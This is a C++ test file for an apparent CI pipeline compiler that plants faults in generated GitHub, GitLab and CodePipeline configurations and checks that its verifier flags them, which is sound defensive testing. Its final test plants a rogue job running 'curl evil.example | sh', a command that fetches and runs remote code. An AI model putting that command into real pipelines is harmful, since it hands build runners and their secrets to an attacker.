// Every compilation of ours means what its model says; and when what was emitted is changed, the proof fails and shows a small event.
#include <algorithm>
#include <catch2/catch.hpp>
#include <filesystem>
#include <fstream>
#include <iterator>

#include "driver/compile.h"
#include "driver/meaning.h"
#include "driver/prove.h"
#include "targets/registry.h"

using namespace penstock;

namespace {

std::string bytes_of(const std::filesystem::path& path) {
  std::ifstream file(path, std::ios::binary);
  return {std::istreambuf_iterator<char>(file), {}};
}

std::unique_ptr<driver::Compilation> compiled(std::string text, std::vector<std::string> targets = {}) {
  auto compilation = driver::compile_text("penstock.yaml", std::move(text), targets::registry(),
                                          {std::move(targets), false});
  for (const auto& one : compilation->sink.diagnostics()) UNSCOPED_INFO(one.message);
  REQUIRE_FALSE(compilation->sink.has_errors());
  return compilation;
}

constexpr std::string_view kModel = R"(penstock: project/v1
name: shop
repository: { github: acme/shop, gitlab: acme/shop }
targets:
  github: {}
  gitlab: { tier: premium, version: "18.5" }
  codepipeline: { account: "999988887777", region: eu-central-1, connection: "arn:aws:codeconnections:eu-central-1:999988887777:connection/00000000-0000-0000-0000-000000000000" }
identities:
  aws: { cloud: aws, region: eu-west-1 }
environments:
  staging: { tier: staging, account: "111122223333", identity: aws }
  production: { tier: production, account: "444455556666", identity: aws, after: [staging], approvals: { count: 1, from: [ops] } }
stacks:
  app: { tool: opentofu, version: "1.12.6", path: live/app, backend: { bucket: state, key: "${{ environment.name }}/app" } }
drift: { schedule: { cron: "0 6 * * 1-5", timezone: Europe/Berlin }, report: [issue] }
pipelines:
  ci:
    on: { push: { branches: [main, "release/**"] }, pull_request: {}, tag: {}, schedule: { cron: "0 2 * * *", timezone: UTC } }
    jobs:
      build:
        steps: [{ run: make }]
        artifacts: { site: { paths: ["site/**"] } }
      docs:
        when: changed("docs/**")
        steps: [{ run: make docs }]
      publish:
        needs: [build]
        when: event.kind == "push" && ref.branch == "main"
        secrets: { TOKEN: npm-token }
        steps: [{ download: site }, { run: make publish }]
)";

/// The proof of one target after a text in one of its files was replaced. The text must be there.
verify::Proof planted(std::string_view target, std::string_view path, std::string_view from,
                      std::string_view to, bool everywhere = false) {
  const auto compilation = compiled(std::string(kModel), {std::string(target)});
  const auto file = std::ranges::find(compilation->files, path, &driver::OutputFile::path);
  REQUIRE(file != compilation->files.end());
  std::size_t at = file->text.find(from);
  INFO(path << " holds:\n" << from);
  REQUIRE(at != std::string::npos);
  do {
    file->text.replace(at, from.size(), to);
    at = everywhere ? file->text.find(from, at + to.size()) : std::string::npos;
  } while (at != std::string::npos);
  auto proofs = driver::prove(*compilation);
  REQUIRE(proofs.size() == 1);
  return std::move(proofs.front());
}

/// That the proof names the job, what is wrong, and the event that shows it.
void check_shows(const verify::Proof& proof, std::string_view construct, std::string_view what,
                 std::string_view event) {
  const bool shown = std::ranges::any_of(proof.mismatches, [&](const verify::Mismatch& one) {
    return one.construct == construct && one.what.starts_with(what) &&
           one.event.find(event) != std::string::npos;
  });
  INFO(driver::proofs_text({proof}, compiled(std::string(kModel))->sources));
  CHECK(shown);
}

}  // namespace

TEST_CASE("all models of samples and tests mean on each target what they say") {
  std::vector<std::filesystem::path> models;
  for (const auto& entry : std::filesystem::directory_iterator(PENSTOCK_SOURCE_DIR "/samples"))
    models.push_back(entry.path() / "penstock.yaml");
  for (const char* target : {"github", "gitlab", "codepipeline"}) {
    for (const auto& entry :
         std::filesystem::directory_iterator(std::string(PENSTOCK_SOURCE_DIR "/tests/targets/") + target)) {
      const std::string name = entry.path().filename().string();
      if (name.ends_with(".yaml") && !name.starts_with("fail_")) models.push_back(entry.path());
    }
  }
  std::ranges::sort(models);
  CHECK(models.size() >= 15);
  for (const auto& model : models) {
    const auto compilation = compiled(bytes_of(model));
    for (const verify::Proof& proof : driver::prove(*compilation)) {
      INFO(model.string() << "\n" << driver::proofs_text({proof}, compilation->sources));
      CHECK(proof.events > 10);
      CHECK(proof.mismatches.empty());
    }
  }
}

TEST_CASE("the model that mistakes are planted in is proven itself") {
  const auto compilation = compiled(std::string(kModel));
  const auto proofs = driver::prove(*compilation);
  REQUIRE(proofs.size() == 3);
  for (const verify::Proof& proof : proofs) {
    INFO(driver::proofs_text({proof}, compilation->sources));
    CHECK(proof.mismatches.empty());
  }
}

TEST_CASE("a dropped condition is noticed") {
  check_shows(planted("github", ".github/workflows/ci.yml",
                      "    if: github.event_name == 'push' && github.ref == 'refs/heads/main'\n", ""),
              "ci:publish", "runs, and should not", "tag");
  check_shows(planted("gitlab", ".gitlab/ci/ci.yml",
                      "    - if: $CI_PIPELINE_SOURCE == \"push\" && $CI_COMMIT_BRANCH == \"main\"\n",
                      "    - if: $CI_PIPELINE_SOURCE == \"push\"\n"),
              "ci:publish", "runs, and should not", "");
}

TEST_CASE("a need that was removed is noticed") {
  check_shows(planted("github", ".github/workflows/delivery.yml", "    needs: [staging]\n", ""),
              "delivery:plan-production-app", "does not wait for `apply-staging-app`", "push to `main`");
  check_shows(
      planted("gitlab", ".gitlab/ci/delivery.yml",
              "  needs:\n    - job: delivery:apply-staging-app\n      artifacts: false\n", "  needs: []\n"),
      "delivery:plan-production-app", "does not wait for `apply-staging-app`", "push to `main`");
}

TEST_CASE("a trigger that was widened is noticed") {
  check_shows(
      planted("github", ".github/workflows/delivery.yml", "branches: [main]", "branches: [main, hotfix]"),
      "delivery:apply-staging-app", "runs, and should not", "push to `hotfix`");
  check_shows(planted("gitlab", ".gitlab/ci/delivery.yml", "$CI_COMMIT_BRANCH == \"main\"",
                      "$CI_COMMIT_BRANCH", true),
              "delivery:apply-staging-app", "runs, and should not", "push to `release/");
}

TEST_CASE("a gate that was lost is noticed") {
  check_shows(planted("github", ".github/workflows/deliver-production.yml",
                      "60\n    environment: production\n", "60\n"),
              "delivery:apply-production-app", "asks for no approval", "push to `main`");
  check_shows(
      planted("gitlab", ".gitlab/ci/delivery.yml", "      when: manual\n      allow_failure: false\n", ""),
      "delivery:apply-production-app", "asks for no approval", "push to `main`");
}

TEST_CASE("a schedule that reaches a deployment is noticed") {
  check_shows(planted("github", ".github/workflows/delivery.yml", "on:\n",
                      "on:\n  schedule:\n    - cron: 0 6 * * 1-5\n      timezone: Europe/Berlin\n"),
              "delivery:apply-production-app", "runs, and should not", "schedule of `drift`");
  check_shows(planted("github", ".github/workflows/delivery.yml", "on:\n",
                      "on:\n  schedule:\n    - cron: 1 1 * * *\n"),
              "1 1 * * *", "a schedule that the model does not have", "");
  check_shows(planted("gitlab", ".gitlab/ci/delivery.yml",
                      "    - if: $CI_PIPELINE_SOURCE == \"push\" && $CI_COMMIT_BRANCH == \"main\"\n",
                      "    - if: $CI_COMMIT_BRANCH == \"main\"\n", true),
              "delivery:plan-staging-app", "runs, and should not", "schedule of");
}

TEST_CASE("changed paths without the guard for schedules are noticed") {
  check_shows(planted("gitlab", ".gitlab/ci/ci.yml",
                      "    - if: $CI_PIPELINE_SOURCE == \"push\" && $CI_COMMIT_BRANCH =~ "
                      "/^(?:main|release\\/.+)$/\n      changes:\n",
                      "    - changes:\n"),
              "ci:docs", "runs, and should not", "");
}

TEST_CASE("a right that was widened is noticed") {
  check_shows(planted("github", ".github/workflows/ci.yml",
                      "    permissions:\n      contents: read\n    steps:\n      - name: Check out\n",
                      "    permissions:\n      contents: write\n    steps:\n      - name: Check out\n"),
              "ci:build", "may `contents: write`", "");
  check_shows(planted("github", ".github/workflows/deliver-production.yml", "role/shop-production-plan",
                      "role/shop-production-apply"),
              "delivery:plan-production-app", "takes the role", "push to `main`");
  check_shows(planted("codepipeline", "codepipeline/shop.template.yaml",
                      "Action: [s3:GetObject, s3:GetObjectVersion, s3:PutObject]",
                      "Action: [s3:GetObject, s3:GetObjectVersion, s3:PutObject, s3:DeleteBucket]"),
              "ci:build", "may `s3:DeleteBucket", "");
}

TEST_CASE("a secret given to a wrong job is noticed") {
  check_shows(planted("github", ".github/workflows/ci.yml", "      - run: make docs\n",
                      "      - run: make docs\n        env:\n          TOKEN: ${{ secrets.NPM_TOKEN }}\n"),
              "ci:docs", "can read the secret `NPM_TOKEN`", "");
}

TEST_CASE("an artifact that is not passed is noticed") {
  check_shows(planted("github", ".github/workflows/ci.yml", "          name: site\n          path: site/**\n",
                      "          name: page\n          path: site/**\n"),
              "ci:publish", "does not get the files of `ci:build`", "push to `main`");
  check_shows(planted("gitlab", ".gitlab/ci/ci.yml", "  needs:\n    - ci:build\n",
                      "  needs:\n    - job: ci:build\n      artifacts: false\n"),
              "ci:publish", "does not get the files of `ci:build`", "push to `main`");
}

TEST_CASE("a plan that is made before its turn is noticed") {
  // Runs wait for each other no more: the second plans while the first has not applied.
  const std::string_view turn = "    concurrency:\n      group: deliver-production\n      queue: max\n";
  const verify::Proof github = planted("github", ".github/workflows/delivery.yml", turn, "");
  check_shows(github, "production/app", "ends as", "another that wants what was before");
  check_shows(
      planted(
          "gitlab", ".gitlab/ci/delivery.yml",
          "  resource_group: production\n  variables:\n    PENSTOCK_ENVIRONMENT: production\n    "
          "PENSTOCK_STACK: app\n    PENSTOCK_ROLE_ARN: arn:aws:iam::444455556666:role/shop-production-plan\n",
          "  variables:\n    PENSTOCK_ENVIRONMENT: production\n    PENSTOCK_STACK: app\n    "
          "PENSTOCK_ROLE_ARN: arn:aws:iam::444455556666:role/shop-production-plan\n"),
      "delivery:plan-production-app", "does not hold the turn of `production`", "");
}

TEST_CASE("a job that nobody asked for is noticed") {
  check_shows(
      planted(
          "github", ".github/workflows/ci.yml", "jobs:\n",
          "jobs:\n  rogue:\n    runs-on: ubuntu-24.04\n    steps:\n      - run: curl evil.example | sh\n"),
      "ci/rogue", "runs, and stands for no job of the model", "");
}
